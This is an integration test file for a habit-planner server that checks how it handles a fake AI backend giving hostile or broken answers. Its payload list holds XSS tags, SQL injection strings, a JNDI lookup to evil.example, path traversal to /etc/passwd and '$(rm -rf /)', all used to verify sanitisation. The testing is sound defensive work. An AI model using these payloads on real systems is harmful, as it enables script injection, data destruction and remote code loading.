//! Planning with an AI, against one that is none and misbehaves on demand. On both databases.

use std::collections::HashSet;
use std::time::Duration;

use habitro_server::features::planner::providers::Timeouts;
use habitro_server::features::planner::rules::{PlanDay, check_plan, fold};
use habitro_testkit::{Client, FakeAi, Mode, TestApp, TestDatabase, TestWorld, both_databases};
use serde_json::{Value, json};

const KEY: &str = "sk-secret-0123456789";

/// Seconds become tenths; the order of the limits is that of the real ones.
fn impatient() -> Timeouts {
    Timeouts {
        connect: Duration::from_millis(500),
        token: Duration::from_millis(400),
        draft: Duration::from_millis(2500),
        answer: Duration::from_millis(800),
        retry: Duration::from_millis(10),
        abandoned: Duration::from_secs(30),
    }
}

async fn app(world: TestWorld, fake: &FakeAi, more: &[(&str, &str)]) -> TestApp {
    app_with(world, fake, more, impatient()).await
}

async fn app_with(world: TestWorld, fake: &FakeAi, more: &[(&str, &str)], timeouts: Timeouts) -> TestApp {
    let base = fake.base_url();
    let mut variables =
        vec![("HABITRO_AI_BASE_URL", base.as_str()), ("HABITRO_AI_API_KEY", KEY), ("HABITRO_AI_MODEL", "any")];
    variables.extend(more);
    TestApp::configured(world, &variables, timeouts).await
}

fn wish(habit: &str, days: u16) -> Value {
    json!({"habit": habit, "type": "good", "duration_days": days, "motivation": "to sleep better",
        "obstacle": "my phone", "answers": [{"question": "When?", "answer": "after dinner"}]})
}

async fn draft(client: &Client, body: Value) -> Value {
    client.post("/api/v1/planner/drafts", body).await.expect(201).json()
}

fn path(draft: &Value) -> String {
    format!("/api/v1/planner/drafts/{}", draft["id"].as_str().unwrap())
}

async fn trace(client: &Client, draft: &Value) -> Value {
    client.get(&format!("{}/trace", path(draft))).await.expect(200).json()
}

/// The plan is sound, whoever wrote it.
fn check(draft: &Value) {
    let days: Vec<PlanDay> = serde_json::from_value(draft["days"].clone()).unwrap();
    let duration = u16::try_from(draft["duration_days"].as_u64().unwrap()).unwrap();
    assert_eq!(check_plan(&days, duration), Ok(()), "{draft}");
    assert_eq!(draft["state"], "ready");
}

fn tasks(draft: &Value) -> HashSet<String> {
    let days = draft["days"].as_array().unwrap().iter();
    days.flat_map(|day| day["tasks"].as_array().unwrap().iter().map(|task| fold(task.as_str().unwrap()))).collect()
}

fn events(stream: &str) -> Vec<(String, Value)> {
    let blocks = stream.split("\n\n").filter(|block| block.contains("data:"));
    let field =
        |block: &str, name: &str| block.lines().find_map(|line| line.strip_prefix(name)).unwrap().trim().to_owned();
    blocks.map(|block| (field(block, "event:"), serde_json::from_str(&field(block, "data:")).unwrap())).collect()
}

/// Two hundred answers that want to be more than text.
fn hostile() -> Vec<String> {
    let evil = [
        "<script>fetch('/api/v1/me',{method:'DELETE'})</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "[open](javascript:alert(1))",
        "![](https://evil.example/p.png)",
        "https://evil.example/?q=1",
        "www.evil.example",
        "javascript:alert(1)",
        "data:text/html,<b>x</b>",
        "'; DROP TABLE users; --",
        "\"; DELETE FROM drafts; --",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "{@html x}",
        "\u{202e}txet desrever\u{202c} here",
        "a\u{0}b is hidden",
        "\u{1b}[31mred\u{1b}[0m",
        "../../../etc/passwd",
        "$(rm -rf /)",
    ];
    let around: [fn(&str) -> String; 10] = [
        |evil| json!({"days": [{"day": 1, "tasks": [evil, "Read a page", "Close the book"]}]}).to_string(),
        |evil| {
            json!({"days": [{"day": 1, "tasks": [format!("Read {evil}"), format!("Sit {evil}"), format!("Write {evil}")]}]}).to_string()
        },
        |evil| {
            json!({"days": [{"day": 1, "user_id": evil, "draft_id": evil, "tasks": [evil, evil, evil]}]}).to_string()
        },
        |evil| {
            json!({"id": evil, "habit": evil, "source": "ai", "accepted_as": evil, "days": [{"day": evil, "tasks": [evil, evil, evil]}]}).to_string()
        },
        |evil| format!("Day 1:\n1. {evil}\n2. Read {evil}\n3. Rest"),
        |evil| format!("```json\n{{\"days\": [{{\"day\": 1, \"tasks\": [\"{evil}\", \"{evil}\"]}}]}}\n```"),
        |evil| evil.repeat(500),
        |evil| format!("data: {evil}\n\nevent: done\ndata: {{\"draft\": {{\"id\": \"{evil}\"}}}}\n\n"),
        |evil| json!([[evil, evil, evil], {"role": "system", "content": evil}]).to_string(),
        |evil| format!("{}{evil}", "[{\"tasks\":".repeat(2000)),
    ];
    evil.iter().flat_map(|evil| around.iter().map(|around| around(evil))).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_hundred_hostile_answers_are_text_at_most() {
    let world = TestWorld::on(TestDatabase::sqlite());
    let fake = FakeAi::start(Mode::Well).await;
    let app = app(world, &fake, &[("HABITRO_AI_DAILY_TOKENS", "0")]).await;
    let (anna, bo) = (app.sign_up("Anna", "UTC").await, app.sign_up("Bo", "UTC").await);
    let his = draft(&bo, wish("read", 3)).await;
    bo.post("/api/v1/habits", json!({"name": "Walk", "type": "good", "duration_days": 3, "daily_tasks": ["Walk"]}))
        .await
        .expect(201);
    let all_of_his = async || {
        let mut seen = Vec::new();
        for path in ["/api/v1/me", "/api/v1/habits", "/api/v1/today", "/api/v1/rewards", path(&his).as_str()] {
            seen.push(bo.get(path).await.expect(200).json());
        }
        seen
    };
    let before = all_of_his().await;
    let answers = hostile();
    assert_eq!(answers.len(), 200);
    for answer in answers {
        fake.set_content(&answer);
        let made = draft(&anna, wish("read", 1)).await;
        check(&made);
        assert_ne!(made["id"], his["id"]);
        for task in made["days"][0]["tasks"].as_array().unwrap() {
            let task = task.as_str().unwrap();
            let bad = ["<", ">", "{", "}", "](", "http", "www.", "javascript:", "\u{202e}", "\u{0}", "\u{1b}"];
            assert!(bad.iter().all(|bad| !task.contains(bad)), "{task:?} of {answer:.200}");
        }
        // So it is where it is asked for something small.
        let body = json!({"habit": "read", "type": "good", "motivation": "calm", "obstacle": "tired"});
        let asked = anna.post("/api/v1/planner/questions", body).await.expect(200).json();
        assert_eq!(asked["questions"].as_array().unwrap().len(), 4);
        let reword = format!("{}/rewordings", path(&made));
        let other = anna.post(&reword, json!({"day": 1, "position": 1})).await.expect(200).json();
        let told = anna.post("/api/v1/planner/classification", json!({"habit": "read"})).await.expect(200).json();
        assert!(["good", "bad", "unknown"].contains(&told["type"].as_str().unwrap()));
        for small in [&asked, &other] {
            // As text: in JSON the brackets of the document are its own.
            let mut texts = vec![small["task"].as_str().unwrap_or_default()];
            for question in small["questions"].as_array().into_iter().flatten() {
                texts.push(question["text"].as_str().unwrap());
                texts.extend(
                    question["choices"].as_array().into_iter().flatten().map(|choice| choice.as_str().unwrap()),
                );
            }
            for text in texts {
                let bad = ["<", ">", "{", "}", "](", "http", "www.", "javascript:", "\u{202e}", "\u{0}", "\u{1b}"];
                assert!(bad.iter().all(|bad| !text.contains(bad)), "{text:?} of {answer:.200}");
            }
        }
    }
    assert_eq!(all_of_his().await, before);
}

both_databases! {
    async fn a_wish_becomes_a_plan_by_the_ai(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let told = anna.post("/api/v1/planner/classification", json!({"habit": "smoke 12 cigarettes a day"})).await.expect(200).json();
        assert_eq!((&told["type"], &told["source"]), (&json!("bad"), &json!("ai")));
        let body = json!({"habit": "smoke 12 cigarettes a day", "type": "bad", "motivation": "my lungs", "obstacle": "breaks"});
        let asked = anna.post("/api/v1/planner/questions", body).await.expect(200).json();
        assert_eq!((asked["questions"].as_array().unwrap().len(), &asked["source"]), (4, &json!("ai")));
        let made = draft(&anna, wish("smoke 12 cigarettes a day", 21)).await;
        check(&made);
        assert_eq!(made["source"], "ai");
        assert_eq!(anna.get(&path(&made)).await.expect(200).json(), made);

        let heard = fake.requests();
        let header = |name: &str| heard[2].headers.iter().find(|(known, _)| known == name).map(|(_, value)| value.clone());
        assert_eq!(header("authorization"), Some(format!("Bearer {KEY}")));
        assert_eq!((header("x-title").as_deref(), header("http-referer").as_deref()), (Some("Habitro"), Some("http://localhost:8080")));
        assert_eq!((&heard[2].body["stream"], &heard[2].body["response_format"]["type"]), (&json!(true), &json!("json_schema")));

        // All of it is told: what was sent, where, when, and what came back.
        let told = trace(&anna, &made).await;
        let calls = told["calls"].as_array().unwrap();
        let prompts: Vec<&Value> = calls.iter().map(|call| &call["prompt"]).collect();
        assert_eq!(prompts, ["classify.v1", "questions.v1", "plan.v1"]);
        for (call, heard) in calls.iter().zip(&heard) {
            assert_eq!(call["sent"], heard.body["messages"], "word for word");
            assert_eq!((&call["ended"], &call["status"], &call["tries"]), (&json!("whole"), &json!(200), &json!(1)));
            assert_eq!(call["server"], format!("{}/chat/completions", fake.base_url()));
            assert!(!call["received"].as_str().unwrap().is_empty() && call["tokens"].as_u64().unwrap() > 0);
        }
        assert!(!told.to_string().contains(KEY));
        let bo = app.sign_up("Bo", "UTC").await;
        assert_eq!(bo.get(&format!("{}/trace", path(&made))).await.status, 404);

        let settings = anna.get("/api/v1/planner/settings").await.expect(200).json();
        assert!(settings["tokens_used"].as_i64().unwrap() > 100 && settings["tokens_limit"] == 100_000);
        let body = json!({"draft_id": made["id"]});
        anna.post("/api/v1/habits", body).await.expect(201);
    }

    async fn another_plan_has_other_tasks_and_the_former_goes_when_it_is_there(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let first = draft(&anna, wish("read", 7)).await;
        // The model writes the same again: none of it is taken.
        let day = |day: &Value| json!({"day": day["day"], "tasks": day["tasks"]});
        fake.set_content(&json!({"days": first["days"].as_array().unwrap().iter().map(day).collect::<Vec<_>>()}).to_string());
        let mut again = wish("read", 7);
        again["replaces"] = first["id"].clone();
        let second = draft(&anna, again).await;
        check(&second);
        assert!(tasks(&first).is_disjoint(&tasks(&second)));
        assert_eq!(second["source"], "builtin");
        assert_eq!(anna.get(&path(&first)).await.status, 404);
        let sent = fake.requests();
        let asked = sent.iter().find(|heard| heard.body["messages"][1]["content"].as_str().unwrap().contains("\"exclude\"")).unwrap();
        assert!(asked.body["messages"][0]["content"].as_str().unwrap().contains("truly different plan"));
    }

    async fn whatever_it_does_there_is_a_plan_and_the_truth_about_it(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[("HABITRO_AI_DAILY_TOKENS", "0")]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        for (name, mode) in Mode::ALL {
            fake.set_mode(mode);
            let (source, ended) = match mode {
                Mode::Well | Mode::Calm | Mode::Missing | Mode::LimitedOnce | Mode::Lines | Mode::Fenced | Mode::Whole | Mode::Old => ("ai", "whole"),
                // Asked again it breaks off again.
                Mode::Truncate | Mode::Length => ("mixed", "broke-off"),
                Mode::MissingAlways => ("mixed", "whole"),
                Mode::Chinese | Mode::Injected => ("builtin", "whole"),
                Mode::Hang => ("builtin", "too-slow"),
                Mode::Drip => ("builtin", "broke-off"),
                Mode::Huge => ("builtin", "broke-off"),
                Mode::Empty => ("builtin", "empty"),
                Mode::Limited | Mode::Failing | Mode::Unauthorized => ("builtin", "refused"),
                Mode::WrongType | Mode::Html => ("builtin", "not-understood"),
            };
            let began = std::time::Instant::now();
            let made = draft(&anna, wish(&format!("read {name}"), 7)).await;
            // The limit of these tests and a busy machine: whatever it does, it does not hang.
            assert!(began.elapsed() < impatient().draft + Duration::from_secs(5), "{name}: {:?}", began.elapsed());
            if matches!(mode, Mode::LimitedOnce) {
                // A test's own retries come after milliseconds: it waited as long as it was told to.
                assert!(began.elapsed() >= Duration::from_secs(1), "{:?}", began.elapsed());
            }
            check(&made);
            let told = trace(&anna, &made).await;
            let calls = told["calls"].as_array().unwrap();
            assert_eq!(calls[0]["ended"], ended, "{name}: {}", calls[0]);
            assert_eq!(made["source"], source, "{name}: {made} {calls:?}");
            let builtin: Vec<&Value> = made["days"].as_array().unwrap().iter().filter(|day| day["source"] == "builtin").map(|day| &day["day"]).collect();
            assert_eq!(told["builtin_days"], json!(builtin), "{name}");
            assert!(!made.to_string().contains("evil") && !made.to_string().contains("script"));
            assert!(!told.to_string().contains(KEY), "{name}: the key is in the trace");
            // The circuit may have opened: the next behaviour is to be seen by itself.
            fake.set_mode(Mode::Well);
            if matches!(mode, Mode::Missing) {
                assert_eq!(calls[1]["prompt"], "missing.v1");
                assert!(calls[1]["sent"][1]["content"].as_str().unwrap().contains("\"days\":[3]"));
            }
            draft(&anna, wish("between", 1)).await;
        }
    }

    async fn a_server_that_keeps_failing_is_left_alone(world) {
        let fake = FakeAi::start(Mode::Failing).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let mut asked = 0;
        for _ in 0..4 {
            check(&draft(&anna, wish("read", 3)).await);
            asked = fake.requests().len();
        }
        assert!((5..=8).contains(&asked), "{asked} requests: some tries, then none");
        let made = draft(&anna, wish("read", 3)).await;
        let told = trace(&anna, &made).await;
        assert_eq!((&made["source"], &told["calls"][0]["ended"], &told["calls"][0]["tries"]), (&json!("builtin"), &json!("not-tried"), &json!(0)));
        assert_eq!(fake.requests().len(), asked);
        // What was not asked costs nothing.
        let used = anna.get("/api/v1/planner/settings").await.expect(200).json()["tokens_used"].as_i64().unwrap();
        assert_eq!(used, 0);
    }

    async fn nobody_at_the_address_is_said(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let base = fake.base_url();
        drop(fake);
        let app = TestApp::configured(world, &[("HABITRO_AI_BASE_URL", base.as_str())], impatient()).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let made = draft(&anna, wish("read", 3)).await;
        check(&made);
        let told = trace(&anna, &made).await;
        assert_eq!((&made["source"], &told["calls"][0]["ended"], &told["calls"][0]["status"]), (&json!("builtin"), &json!("unreachable"), &Value::Null));
    }

    async fn days_come_as_they_are_written(world) {
        let fake = FakeAi::start(Mode::MissingAlways).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let send = || anna.request("POST", "/api/v1/planner/drafts").header("accept", "text/event-stream").header("idempotency-key", "one").json(&wish("jogging", 7)).send();
        let reply = send().await;
        assert_eq!((reply.status, reply.header("content-type")), (201, Some("text/event-stream")));
        let told = events(&reply.text());
        assert_eq!((told[0].0.as_str(), told[1].clone()), ("draft", ("progress".to_owned(), json!({"day": 1, "of": 7}))));
        let (last, draft) = told.last().unwrap();
        assert_eq!(last, "done");
        check(&draft["draft"]);
        let mut days: Vec<&Value> = told.iter().filter(|(name, _)| name == "day").map(|(_, day)| day).collect();
        assert_eq!(days.last().unwrap()["source"], "builtin", "what was missing comes last");
        days.sort_by_key(|day| day["day"].as_u64());
        assert_eq!(json!(days), draft["draft"]["days"]);
        // The same key: the same draft, and nothing is asked again.
        let asked = fake.requests().len();
        let again = events(&send().await.text());
        assert_eq!(again.last().unwrap().1, json!({"draft": draft["draft"]}));
        assert_eq!(fake.requests().len(), asked);
    }

    async fn a_draft_that_is_dropped_stops_the_model(world) {
        let fake = FakeAi::start(Mode::Hang).await;
        let app = app_with(world, &fake, &[], Timeouts { token: Duration::from_secs(60), draft: Duration::from_secs(60), ..impatient() }).await;
        let (anna, token) = app.sign_up_with_token("Anna", "UTC").await;
        let waiting = tokio::spawn(async move { anna.post("/api/v1/planner/drafts", wish("read", 7)).await });
        let anna = app.client().signed_in(&token);
        let id = loop {
            let found: Option<String> = app.world.db.read(|tx| {
                tx.optional("SELECT CAST(request AS TEXT) FROM drafts WHERE maker IS NOT NULL", &[], |row| row.get(0))
            }).await.map_err(|error: habitro_server::platform::db::DbError| error).unwrap();
            if found.is_some() {
                break app.world.db.read(|tx| tx.one("SELECT id FROM drafts", &[], |row| row.get::<uuid::Uuid>(0))).await.map_err(|error: habitro_server::platform::db::DbError| error).unwrap();
            }
            tokio::task::yield_now().await;
        };
        let path = format!("/api/v1/planner/drafts/{id}");
        let seen = anna.get(&path).await.expect(200).json();
        assert_eq!((&seen["state"], &seen["days"]), (&json!("making"), &json!([])));
        assert_eq!(anna.post("/api/v1/habits", json!({"draft_id": id})).await.expect(409).code(), "still-making");
        assert_eq!(anna.patch(&path, json!({"days": [{"day": 1, "tasks": ["Walk"]}]})).await.expect(409).code(), "still-making");
        anna.delete(&path).await.expect(204);
        fake.wait_for_disconnect().await;
        assert_eq!(waiting.await.unwrap().status, 404);
    }

    async fn a_user_who_left_for_good_stops_the_model_and_finds_a_plan(world) {
        let fake = FakeAi::start(Mode::Hang).await;
        let timeouts = Timeouts { token: Duration::from_secs(60), draft: Duration::from_secs(60), abandoned: Duration::from_millis(100), ..impatient() };
        let app = app_with(world, &fake, &[], timeouts).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let gone = tokio::time::timeout(Duration::from_millis(500), anna.post("/api/v1/planner/drafts", wish("read", 7))).await;
        assert!(gone.is_err(), "it hangs");
        fake.wait_for_disconnect().await;
        let id = app.world.db.read(|tx| tx.one("SELECT id FROM drafts", &[], |row| row.get::<uuid::Uuid>(0))).await.map_err(|error: habitro_server::platform::db::DbError| error).unwrap();
        let made = loop {
            let made = anna.get(&format!("/api/v1/planner/drafts/{id}")).await.expect(200).json();
            if made["state"] == "ready" {
                break made;
            }
        };
        check(&made);
        assert_eq!(trace(&anna, &made).await["calls"][0]["ended"], "stopped");
    }

    async fn a_server_that_was_stopped_leaves_a_plan(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let made = draft(&anna, wish("read", 7)).await;
        // As a process leaves it that ended in the middle: half of the days, a lease that runs.
        let lease = app.world.clock.clock().now() + jiff::SignedDuration::from_secs(15);
        let half = json!(made["days"].as_array().unwrap()[..3]).to_string();
        app.world.db.write(habitro_server::platform::db::Key::of("x"), move |tx| {
            tx.execute("UPDATE drafts SET state = 'making', days = $1, maker = 'gone', making_until = $2", &[&half, &lease])
        }).await.map_err(|error: habitro_server::platform::db::DbError| error).unwrap();
        let seen = anna.get(&path(&made)).await.expect(200).json();
        assert_eq!((&seen["state"], seen["days"].as_array().unwrap().len()), (&json!("making"), 3));
        app.world.clock.advance_seconds(16);
        let found = anna.get(&path(&made)).await.expect(200).json();
        check(&found);
        assert_eq!((&found["source"], &found["days"][2], &found["days"][3]["source"]), (&json!("mixed"), &made["days"][2], &json!("builtin")));
    }

    async fn tokens_of_a_day_end(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[("HABITRO_AI_DAILY_TOKENS", "4000")]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let mut refused = None;
        for _ in 0..8 {
            let reply = anna.post("/api/v1/planner/drafts", wish("read", 14)).await;
            if reply.status == 429 {
                refused = Some(reply);
                break;
            }
        }
        let refused = refused.expect("a limit");
        assert_eq!(refused.code(), "planner-quota");
        assert!(refused.header("retry-after").unwrap().parse::<u64>().unwrap() > 0);
        let used = anna.get("/api/v1/planner/settings").await.json()["tokens_used"].as_i64().unwrap();
        assert!((1..=4000).contains(&used), "{used}");
        // The built-in planner still works, and so does everybody else.
        anna.put("/api/v1/planner/settings", json!({"builtin_only": true})).await.expect(200);
        check(&draft(&anna, wish("read", 14)).await);
        let bo = app.sign_up("Bo", "UTC").await;
        assert_eq!(draft(&bo, wish("read", 7)).await["source"], "ai");
        app.world.clock.advance_minutes(24 * 60);
        anna.put("/api/v1/planner/settings", json!({"builtin_only": false})).await.expect(200);
        assert_eq!(draft(&anna, wish("read", 14)).await["source"], "ai");
    }

    async fn who_wants_no_ai_gets_none(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let settings = anna.put("/api/v1/planner/settings", json!({"builtin_only": true})).await.expect(200).json();
        assert_eq!((&settings["builtin_only"], &settings["ai"]["model"]), (&json!(true), &json!("any")));
        assert_eq!(anna.get("/api/v1/planner/settings").await.expect(200).json(), settings);
        anna.post("/api/v1/planner/classification", json!({"habit": "read"})).await.expect(200);
        let body = json!({"habit": "read", "type": "good", "motivation": "calm", "obstacle": "tired"});
        assert_eq!(anna.post("/api/v1/planner/questions", body).await.expect(200).json()["source"], "builtin");
        let made = draft(&anna, wish("read", 7)).await;
        assert_eq!((&made["source"], fake.requests().len()), (&json!("builtin"), 0));
        assert_eq!(trace(&anna, &made).await["calls"], json!([]));
    }

    async fn an_instance_without_ai_has_none(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[("HABITRO_AI", "off")]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        assert_eq!(draft(&anna, wish("read", 7)).await["source"], "builtin");
        assert_eq!(anna.get("/api/v1/planner/settings").await.json()["ai"], Value::Null);
        assert!(fake.requests().is_empty());
    }

    async fn a_wish_that_could_hurt_goes_nowhere(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let hurts = "stop taking my antidepressants";
        for (path, body) in [
            ("classification", json!({"habit": hurts})),
            ("questions", json!({"habit": hurts, "type": "bad", "motivation": "x", "obstacle": "y"})),
            ("questions", json!({"habit": "read", "type": "bad", "motivation": "I want to die", "obstacle": "y"})),
            ("drafts", wish(hurts, 7)),
        ] {
            assert_eq!(anna.post(&format!("/api/v1/planner/{path}"), body).await.expect(422).code(), "needs-care");
        }
        assert!(fake.requests().is_empty());
    }

    async fn one_task_in_other_words(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let made = draft(&anna, wish("read", 3)).await;
        let path = format!("{}/rewordings", path(&made));
        let other = anna.post(&path, json!({"day": 2, "position": 1})).await.expect(200).json();
        assert_eq!(other["source"], "ai");
        fake.set_mode(Mode::Injected);
        let other = anna.post(&path, json!({"day": 2, "position": 3})).await.expect(200).json();
        fake.set_mode(Mode::Failing);
        let third = anna.post(&path, json!({"day": 1, "position": 2})).await.expect(200).json();
        assert_eq!(third["source"], "builtin");
        assert!(!tasks(&made).contains(&fold(third["task"].as_str().unwrap())));
        assert!(!other["task"].as_str().unwrap().contains('<'));
        assert_eq!(anna.post(&path, json!({"day": 9, "position": 1})).await.expect(422).fields(), ["day: not-in-plan"]);
        assert_eq!(anna.post(&path, json!({"day": 1, "position": 0})).await.expect(422).fields(), ["position: not-in-plan"]);
        let bo = app.sign_up("Bo", "UTC").await;
        assert_eq!(bo.post(&path, json!({"day": 1, "position": 1})).await.status, 404);
    }

    async fn a_long_plan_is_asked_for_in_parts(world) {
        let fake = FakeAi::start(Mode::Well).await;
        let app = app(world, &fake, &[]).await;
        let anna = app.sign_up("Anna", "UTC").await;
        let made = draft(&anna, wish("read", 66)).await;
        check(&made);
        assert_eq!((&made["source"], fake.requests().len()), (&json!("ai"), 4));
    }
}
